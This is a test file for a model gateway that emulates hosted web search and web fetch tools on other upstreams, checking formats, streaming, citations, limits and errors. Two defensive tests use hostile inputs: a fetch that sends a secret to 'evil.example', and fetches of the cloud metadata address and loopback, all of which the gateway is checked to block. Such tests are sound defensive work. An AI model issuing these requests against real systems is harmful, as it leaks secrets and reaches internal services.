@@ -1,0 +1,377 @@
+/** A vendor's hosted web search and web fetch on upstreams that have none: the gateway runs them, and the caller gets its own vendor's blocks. */
+import { afterAll, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
+import { createOutbound } from '@model-gateway/upstream-client';
+import { validateStream as validateResponses } from '../../packages/protocols/test/validate/alpha-response.ts';
+import { validateStream as validateMessages } from '../../packages/protocols/test/validate/beta.ts';
+import { type InProcessGateway, startInProcess } from '../support/in-process.ts';
+import { createScriptedOutbound, type Script } from '../support/scripted-outbound.ts';
+import { type Answer, send } from '../support/send.ts';
+
+const outbound = createScriptedOutbound();
+const pages = createScriptedOutbound();
+const json = (value: unknown, status = 200): Script => ({
+  status,
+  contentType: 'application/json',
+  chunks: [Buffer.from(JSON.stringify(value))],
+  ending: 'end',
+});
+const sse = (events: readonly unknown[]): Script => ({
+  chunks: events.map((event) => Buffer.from(`data: ${typeof event === 'string' ? event : JSON.stringify(event)}\n\n`)),
+  ending: 'end',
+});
+
+/** What the model says, one call after the other, in the form that each kind of upstream has. */
+interface Said {
+  text?: string;
+  calls?: { name: string; arguments: string }[];
+  broken?: boolean;
+}
+let said: Said[] = [];
+let search: Script;
+let asked = 0;
+
+function chatReply({ text, calls = [], broken }: Said, stream: boolean): Script {
+  const tool_calls = calls.map((call, index) => ({ index, id: `call_${asked}_${index}`, type: 'function', function: call }));
+  const finish_reason = calls.length > 0 ? 'tool_calls' : 'stop';
+  const usage = { prompt_tokens: 10, completion_tokens: 5, total_tokens: 15 };
+  const head = { id: 'chatcmpl-1', created: 1, model: 'm' };
+  if (broken) return json({ error: { message: 'down' } }, 500);
+  const message = { role: 'assistant', content: text ?? null, ...(calls.length > 0 && { tool_calls }) };
+  if (!stream) return json({ ...head, object: 'chat.completion', choices: [{ index: 0, message, finish_reason }], usage });
+  const chunk = (delta: unknown, reason: string | null = null) => ({
+    ...head,
+    object: 'chat.completion.chunk',
+    choices: [{ index: 0, delta, finish_reason: reason }],
+  });
+  return sse([
+    chunk({ role: 'assistant', content: '' }),
+    ...(text ?? '').split(/(?<= )/).flatMap((word) => (word === '' ? [] : [chunk({ content: word })])),
+    ...tool_calls.flatMap((call) => [
+      chunk({ tool_calls: [{ ...call, function: { name: call.function.name, arguments: '' } }] }),
+      chunk({ tool_calls: [{ index: call.index, function: { arguments: call.function.arguments } }] }),
+    ]),
+    chunk({}, finish_reason),
+    { ...head, object: 'chat.completion.chunk', choices: [], usage },
+    '[DONE]',
+  ]);
+}
+
+function geminiReply({ text, calls = [], broken }: Said, stream: boolean): Script {
+  if (broken) return json({ error: { code: 500, message: 'down', status: 'INTERNAL' } }, 500);
+  const parts = [
+    ...(text === undefined ? [] : [{ text }]),
+    ...calls.map(({ name, arguments: args }) => ({ functionCall: { name, args: JSON.parse(args) }, thoughtSignature: 'c2lnbmVk' })),
+  ];
+  const reply = {
+    candidates: [{ index: 0, content: { role: 'model', parts }, finishReason: 'STOP' }],
+    usageMetadata: { promptTokenCount: 10, candidatesTokenCount: 5, totalTokenCount: 15 },
+    modelVersion: 'gemini',
+  };
+  return stream ? sse([reply]) : json(reply);
+}
+
+outbound.scriptOf = (url) => {
+  if (url.startsWith('https://search.test')) return search;
+  const next = said[asked++] ?? { text: 'The script is over.' };
+  return isGemini ? geminiReply(next, isStream) : chatReply(next, isStream);
+};
+let isStream = false;
+let isGemini = false;
+
+const found = { web: { results: [{ title: 'Tea', url: 'https://tea.example/steep', description: 'Steep green tea at 80 degrees.', age: '1 day' }] } };
+const call = (input: string, name = 'web_search') => ({ name, arguments: JSON.stringify(name === 'web_search' ? { query: input } : { url: input }) });
+const answer = 'Steep it at 80 degrees ([Tea](https://tea.example/steep)).';
+
+const provider = {
+  id: 'sp',
+  name: 'brave',
+  kind: 'brave' as const,
+  base_url: 'https://search.test/find',
+  price_per_search: 5_000,
+  currency: 'USD',
+  enabled: true,
+  description: '',
+};
+const configuration = {
+  outbound,
+  publicUrls: pages,
+  upstreams: [
+    { name: 'chat', protocol: 'alpha' as const, base_url: 'https://chat.test', api_keys: [{ key: 'sk-one' }] },
+    { name: 'generate', protocol: 'gamma' as const, base_url: 'https://generate.test', api_keys: [{ key: 'sk-one' }] },
+  ],
+  models: [
+    { name: 'chat', upstream: 'chat', upstream_model_id: 'some-model' },
+    { name: 'generate', upstream: 'generate', upstream_model_id: 'gemini-2.5-flash' },
+  ],
+};
+let on: InProcessGateway;
+let off: InProcessGateway;
+beforeAll(async () => {
+  const search = { provider, config: { max_uses: 3, max_rounds: 4 } };
+  on = await startInProcess({ ...configuration, search, group: { server_tools: 'on' } });
+  off = await startInProcess({ ...configuration, search });
+});
+afterAll(async () => {
+  await on?.stop();
+  await off?.stop();
+});
+beforeEach(() => {
+  outbound.sent.length = 0;
+  pages.sent.length = 0;
+  asked = 0;
+  search = json(found);
+  isStream = false;
+  isGemini = false;
+});
+
+const searched = () => outbound.sent.filter(({ url }) => url.startsWith('https://search.test'));
+const upstreamBodies = () => outbound.sent.filter(({ url }) => !url.startsWith('https://search.test')).map(({ body }) => JSON.parse(body));
+const question = 'How hot should green tea be?';
+
+let number = 0;
+async function post(gateway: InProcessGateway, path: string, body: object): Promise<Answer & { id: string }> {
+  const id = `ask-${++number}`;
+  const headers = { 'content-type': 'application/json', authorization: `Bearer ${gateway.key}`, 'anthropic-version': '2023-06-01', 'z-request-id': id };
+  return { ...(await send(gateway.url, path, { headers, body: JSON.stringify(body) })), id };
+}
+const webSearch = { type: 'web_search_20250305', name: 'web_search' };
+const webFetch = { type: 'web_fetch_20250910', name: 'web_fetch' };
+const messages = (more: object = {}, gateway = on) =>
+  post(gateway, '/v1/messages', {
+    model: isGemini ? 'generate' : 'chat',
+    max_tokens: 500,
+    stream: isStream,
+    messages: [{ role: 'user', content: question }],
+    tools: [webSearch],
+    ...more,
+  });
+const responses = (more: object = {}) =>
+  post(on, '/v1/responses', { model: isGemini ? 'generate' : 'chat', stream: isStream, input: question, tools: [{ type: 'web_search' }], ...more });
+
+const eventsOf = (text: string) =>
+  text
+    .split('\n\n')
+    .map((event) => /^data: (.*)$/m.exec(event)?.[1])
+    .filter((data) => data !== undefined && data !== '[DONE]')
+    .map((data) => JSON.parse(data as string));
+
+describe.each([
+  ['chat', false],
+  ['generate-content', true],
+])('on an upstream of %s', (_name, gemini) => {
+  beforeEach(() => {
+    isGemini = gemini;
+    said = [{ calls: [call('green tea temperature')] }, { text: answer }];
+  });
+
+  test('messages: one reply with the search, its result and a citation', async () => {
+    const reply = await messages();
+    expect(reply.status).toBe(200);
+    const { content, stop_reason, usage } = reply.json;
+    expect(content.map(({ type }: { type: string }) => type)).toEqual(['server_tool_use', 'web_search_tool_result', 'text']);
+    const [use, result, text] = content;
+    expect(use).toEqual({ type: 'server_tool_use', id: expect.stringMatching(/^srvtoolu_/), name: 'web_search', input: { query: 'green tea temperature' } });
+    expect(result).toEqual({
+      type: 'web_search_tool_result',
+      tool_use_id: use.id,
+      content: [{ type: 'web_search_result', url: 'https://tea.example/steep', title: 'Tea', encrypted_content: expect.any(String), page_age: '1 day' }],
+    });
+    expect(text).toMatchObject({ text: answer, citations: [{ type: 'web_search_result_location', url: 'https://tea.example/steep', title: 'Tea' }] });
+    expect(stop_reason).toBe('end_turn');
+    expect(usage).toMatchObject({ input_tokens: 20, output_tokens: 10, server_tool_use: { web_search_requests: 1, web_fetch_requests: 0 } });
+    expect(searched()).toMatchObject([
+      { url: 'https://search.test/find?q=green+tea+temperature&count=8', headers: { 'x-subscription-token': 'search-secret' } },
+    ]);
+    const [first, second] = upstreamBodies();
+    expect(JSON.stringify(first)).toContain('"web_search"');
+    expect(JSON.stringify(second)).toContain('Steep green tea at 80 degrees.');
+    const row = await on.row(reply.id);
+    expect(row).toMatchObject({ input_tokens: 20, output_tokens: 10, cost_micros: 5_000, currency: 'USD', pipeline: ['translate', 'hosted-tools'] });
+    expect(row.attempts).toHaveLength(2);
+    expect(row.losses).toContainEqual(expect.objectContaining({ field: 'tools.web_search', action: 'emulated' }));
+    expect(reply.headers['x-gateway-translation']).toMatch(/emulated=1/);
+  });
+
+  test('messages, streamed: a valid stream that shows the search before the answer', async () => {
+    isStream = true;
+    const reply = await messages();
+    expect(validateMessages(reply.text)).toEqual([]);
+    const starts = eventsOf(reply.text).filter(({ type }) => type === 'content_block_start');
+    expect(starts.map(({ index, content_block }) => [index, content_block.type])).toEqual([
+      [0, 'server_tool_use'],
+      [1, 'web_search_tool_result'],
+      [2, 'text'],
+    ]);
+    expect(starts[1].content_block.tool_use_id).toBe(starts[0].content_block.id);
+    const deltas = eventsOf(reply.text).filter(({ type }) => type === 'content_block_delta');
+    expect(deltas[0]).toMatchObject({ index: 0, delta: { type: 'input_json_delta', partial_json: '{"query":"green tea temperature"}' } });
+    expect(deltas.at(-1)).toMatchObject({ index: 2, delta: { type: 'citations_delta', citation: { url: 'https://tea.example/steep' } } });
+    expect(eventsOf(reply.text).find(({ type }) => type === 'message_delta')).toMatchObject({
+      delta: { stop_reason: 'end_turn' },
+      usage: { input_tokens: 20, output_tokens: 10, server_tool_use: { web_search_requests: 1 } },
+    });
+    expect(await on.row(reply.id)).toMatchObject({ input_tokens: 20, cost_micros: 5_000, stream: true });
+  });
+
+  test('Responses: one reply with the search and the citation of its page', async () => {
+    const { json: body } = await responses();
+    expect(body.output).toMatchObject([
+      { type: 'web_search_call', id: expect.stringMatching(/^ws_/), status: 'completed', action: { type: 'search', query: 'green tea temperature' } },
+      {
+        type: 'message',
+        content: [{ type: 'output_text', text: answer, annotations: [{ type: 'url_citation', url: 'https://tea.example/steep', title: 'Tea' }] }],
+      },
+    ]);
+    const [{ start_index, end_index }] = body.output[1].content[0].annotations;
+    expect(answer.slice(start_index, end_index)).toBe('[Tea](https://tea.example/steep)');
+    expect([body.status, body.usage.input_tokens, body.usage.output_tokens]).toEqual(['completed', 20, 10]);
+  });
+
+  test('Responses, streamed: the search has its own events', async () => {
+    isStream = true;
+    const reply = await responses();
+    expect(validateResponses(reply.text)).toEqual([]);
+    const types = eventsOf(reply.text).map(({ type }) => type);
+    expect(types.filter((type) => type.includes('web_search_call'))).toEqual([
+      'response.web_search_call.in_progress',
+      'response.web_search_call.searching',
+      'response.web_search_call.completed',
+    ]);
+    expect(types.filter((type) => type === 'response.completed')).toHaveLength(1);
+    expect(types).toContain('response.output_text.annotation.added');
+  });
+});
+
+test('a group that does not ask for it gets none: the tool is a declared loss', async () => {
+  said = [{ text: 'I do not know.' }];
+  const reply = await messages({}, off);
+  expect(reply.json.content).toEqual([{ type: 'text', text: 'I do not know.' }]);
+  expect(searched()).toEqual([]);
+  expect((await off.row(reply.id)).losses).toContainEqual(expect.objectContaining({ action: 'dropped' }));
+});
+
+test('the next turn shows the model what was found before', async () => {
+  said = [{ calls: [call('tea')] }, { text: answer }, { text: 'As I said.' }];
+  const first = await messages();
+  await messages({
+    messages: [
+      { role: 'user', content: question },
+      { role: 'assistant', content: first.json.content },
+      { role: 'user', content: 'Are you sure?' },
+    ],
+  });
+  const body = JSON.stringify(upstreamBodies()[2]);
+  expect(body).toContain('Steep green tea at 80 degrees.');
+  expect(body).toContain('https://tea.example/steep');
+});
+
+test('a forced search is forced once', async () => {
+  said = [{ calls: [call('tea')] }, { text: answer }];
+  await messages({ tool_choice: { type: 'tool', name: 'web_search' } });
+  const [first, second] = upstreamBodies();
+  expect(first.tool_choice).toEqual({ type: 'function', function: { name: 'web_search' } });
+  expect(second.tool_choice ?? 'auto').toBe('auto');
+});
+
+test('calls of the caller’s own tools end the reply, with what the search found', async () => {
+  said = [{ calls: [call('tea'), { name: 'kettle', arguments: '{"degrees":80}' }] }];
+  const kettle = { name: 'kettle', input_schema: { type: 'object', properties: { degrees: { type: 'number' } } } };
+  const reply = await messages({ tools: [webSearch, kettle] });
+  expect(reply.json.content.map(({ type }: { type: string }) => type).sort()).toEqual(['server_tool_use', 'tool_use', 'web_search_tool_result']);
+  expect(reply.json.stop_reason).toBe('tool_use');
+  expect(upstreamBodies()).toHaveLength(1);
+  isStream = true;
+  asked = 0;
+  const streamed = await messages({ tools: [webSearch, kettle] });
+  expect(validateMessages(streamed.text)).toEqual([]);
+});
+
+test('a function of the caller’s own under the same name stays the caller’s', async () => {
+  said = [{ calls: [{ name: 'web_search', arguments: '{}' }] }];
+  const own = { name: 'web_search', input_schema: { type: 'object', properties: {} } };
+  const reply = await messages({ tools: [own, { ...webSearch, name: 'internet' }] });
+  expect(reply.json.content).toMatchObject([{ type: 'tool_use', name: 'web_search' }]);
+  expect(upstreamBodies()[0].tools.map((tool: { function: { name: string } }) => tool.function.name)).toEqual(['web_search', 'web_search_2']);
+  expect(searched()).toEqual([]);
+});
+
+test('uses are bounded by the caller and by the gateway, and rounds end', async () => {
+  said = Array.from({ length: 10 }, () => ({ calls: [call('tea'), call('more tea')] }));
+  const reply = await messages({ tools: [{ ...webSearch, max_uses: 2 }] });
+  const errors = reply.json.content.filter(({ content }: { content?: { error_code?: string } }) => content?.error_code === 'max_uses_exceeded');
+  expect(searched()).toHaveLength(2);
+  expect(upstreamBodies()).toHaveLength(4);
+  expect(upstreamBodies()[3].tool_choice).toBe('none');
+  expect(errors).toHaveLength(6);
+  expect(reply.json.stop_reason).toBe('pause_turn');
+  asked = 0;
+  outbound.sent.length = 0;
+  await messages();
+  expect(searched()).toHaveLength(3);
+});
+
+test.each([
+  [json({ error: 'x' }, 500), 'unavailable'],
+  [json({ error: 'x' }, 429), 'too_many_requests'],
+  [{ chunks: [], ending: 'reset' } as Script, 'unavailable'],
+])('a search that fails is told to the model and to the caller, and costs nothing', async (script, error_code) => {
+  said = [{ calls: [call('tea')] }, { text: 'I could not search.' }];
+  search = script;
+  const reply = await messages();
+  expect(reply.json.content[1]).toMatchObject({ type: 'web_search_tool_result', content: { type: 'web_search_tool_result_error', error_code } });
+  expect(reply.json.content[2].text).toBe('I could not search.');
+  expect((await on.row(reply.id)).cost_micros).toBeNull();
+});
+
+test('arguments that are none are no search', async () => {
+  said = [{ calls: [{ name: 'web_search', arguments: '{"query":' }] }, { text: 'Well.' }];
+  const reply = await messages();
+  expect(reply.json.content[1].content.error_code).toBe('invalid_tool_input');
+  expect(searched()).toEqual([]);
+});
+
+test('an upstream that fails after a search: a whole reply fails, a stream ends properly', async () => {
+  said = [{ calls: [call('tea')] }, { broken: true }, { broken: true }];
+  expect((await messages()).status).toBeGreaterThanOrEqual(500);
+  asked = 0;
+  isStream = true;
+  const reply = await messages();
+  expect(reply.status).toBe(200);
+  expect(validateMessages(reply.text)).toEqual([]);
+  expect(reply.text.match(/event: message_start/g)).toHaveLength(1);
+  expect((await on.row(reply.id)).error_code).not.toBeNull();
+});
+
+test('a page is fetched where the user or a search named it, and nowhere else', async () => {
+  pages.scriptOf = () => ({ contentType: 'text/html', chunks: [Buffer.from('<title>Steeping</title><p>At 80 degrees.</p>')], ending: 'end' });
+  said = [{ calls: [call('https://tea.example/page', 'web_fetch'), call('https://evil.example/?secret=1', 'web_fetch')] }, { text: answer }];
+  const reply = await messages({ tools: [webFetch], messages: [{ role: 'user', content: 'Read https://tea.example/page' }] });
+  expect(pages.sent.map(({ url }) => url)).toEqual(['https://tea.example/page']);
+  const results = reply.json.content.filter(({ type }: { type: string }) => type === 'web_fetch_tool_result');
+  expect(results.map(({ content }: { content: unknown }) => content)).toMatchObject([
+    {
+      type: 'web_fetch_result',
+      url: 'https://tea.example/page',
+      content: { type: 'document', title: 'Steeping', source: { type: 'text', data: 'At 80 degrees.' } },
+    },
+    { type: 'web_fetch_tool_result_error', error_code: 'url_not_allowed' },
+  ]);
+  expect(JSON.stringify(upstreamBodies()[1])).toContain('At 80 degrees.');
+  expect(reply.json.usage.server_tool_use).toEqual({ web_search_requests: 0, web_fetch_requests: 2 });
+});
+
+test('an address inside the network is never fetched', async () => {
+  const timeouts = { connect_ms: 1_000, first_byte_ms: 1_000, idle_ms: 1_000, total_ms: 2_000 };
+  const guarded = createOutbound({ allowPrivate: false, timeouts, userAgent: 'test', logger: { warn: () => {}, error: () => {} } });
+  const gateway = await startInProcess({ ...configuration, publicUrls: guarded, search: { provider }, group: { server_tools: 'on' } });
+  try {
+    const urls = [`${on.url}/`, 'http://169.254.169.254/latest/meta-data/', 'http://[::1]/'];
+    said = [{ calls: urls.map((url) => call(url, 'web_fetch')) }, { text: 'No.' }];
+    const reply = await messages({ tools: [webFetch], messages: [{ role: 'user', content: urls.join(' ') }] }, gateway);
+    const results = reply.json.content.filter(({ type }: { type: string }) => type === 'web_fetch_tool_result');
+    expect(results.map(({ content }: { content: { error_code: string } }) => content.error_code)).toEqual(urls.map(() => 'url_not_accessible'));
+  } finally {
+    await gateway.stop();
+    await guarded.close();
+  }
+});
